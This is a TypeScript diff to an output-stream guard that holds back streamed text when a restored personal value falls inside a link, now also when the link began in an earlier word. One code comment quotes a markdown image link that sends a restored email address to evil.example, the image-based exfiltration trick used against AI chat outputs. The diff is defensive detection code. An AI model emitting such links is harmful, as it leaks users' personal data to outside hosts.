@@ -24,7 +24,7 @@
  */
 import { credentialSuspicion, findsCredential } from './output/index.ts';
 import type { StreamRestorer } from './pii/index.ts';
-import { holdsUrl } from './stages/pii-restore-url.ts';
+import { continuesLink, holdsUrl, LINK_WORD } from './stages/pii-restore-url.ts';
 
 export interface OutputStreamOptions {
   /** Release nothing before the final verdict (the whole answer arrives at once). */
@@ -138,7 +138,7 @@ export class OutputStream {
     const restores = this.#restoreView(words) !== words;
     // A value restored inside a link (`![](https://evil.example/?d=[EMAIL_1])`) is stage 9's to judge
     // against what the caller wrote: nothing more is released on the fly, and the final text decides.
-    if (restores && this.#restoresIntoLink(words)) {
+    if (restores && this.#restoresIntoLink(words, window)) {
       this.#holdOnTheFly();
       return;
     }
@@ -207,10 +207,17 @@ export class OutputStream {
   }
 
   /** Whether a word of `words` restores to other text and points somewhere, as written or restored. */
-  #restoresIntoLink(words: string): boolean {
-    for (const [word] of words.matchAll(/\S*\[\S*/g)) {
+  #restoresIntoLink(words: string, window: string): boolean {
+    // Read in the window, so the word before (already released, in the tail) can leave a link open.
+    const from = window.length - words.length;
+    let previous: string | undefined;
+    for (const m of window.matchAll(LINK_WORD)) {
+      const before = previous;
+      const word = m[0];
+      previous = word;
+      if (m.index + word.length <= from || !word.includes('[')) continue;
       const shown = this.#restoreView(word);
-      if (shown !== word && (holdsUrl(word) || holdsUrl(shown))) return true;
+      if (shown !== word && (continuesLink(before) || holdsUrl(word) || holdsUrl(shown))) return true;
     }
     return false;
   }
